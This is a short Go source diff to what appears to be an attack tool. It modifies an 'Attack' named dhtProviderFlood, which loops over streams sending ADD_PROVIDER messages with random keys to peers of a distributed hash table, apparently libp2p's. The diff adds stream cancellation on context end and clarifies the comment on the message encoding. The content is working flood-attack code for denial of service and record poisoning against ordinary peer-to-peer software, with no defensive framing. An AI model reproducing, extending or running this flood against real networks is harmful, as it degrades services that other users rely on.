@@ -39,6 +39,7 @@ var dhtProviderFlood = Attack{
 					continue
 				}
 				r.streams.Add(1)
+				stop := cutOnDone(ctx, s)
 				_ = s.SetWriteDeadline(time.Now().Add(time.Minute))
 				for ctx.Err() == nil {
 					var key [34]byte
@@ -51,6 +52,7 @@ var dhtProviderFlood = Attack{
 					}
 					r.sent(1, len(m))
 				}
+				stop()
 				_ = s.Reset()
 			}
 		})
@@ -65,7 +67,7 @@ func addProvider(key, self, addr []byte) []byte {
 	peerMsg = appendField(peerMsg, 1, self)
 	peerMsg = appendField(peerMsg, 2, addr)
 	var m []byte
-	m = append(m, 1<<3|0, 2) // type: ADD_PROVIDER
+	m = append(m, 1<<3, 2) // field 1 (varint): type ADD_PROVIDER
 	m = appendField(m, 2, key)
 	m = appendField(m, 9, peerMsg)
 	return append(binary.AppendUvarint(nil, uint64(len(m))), m...)
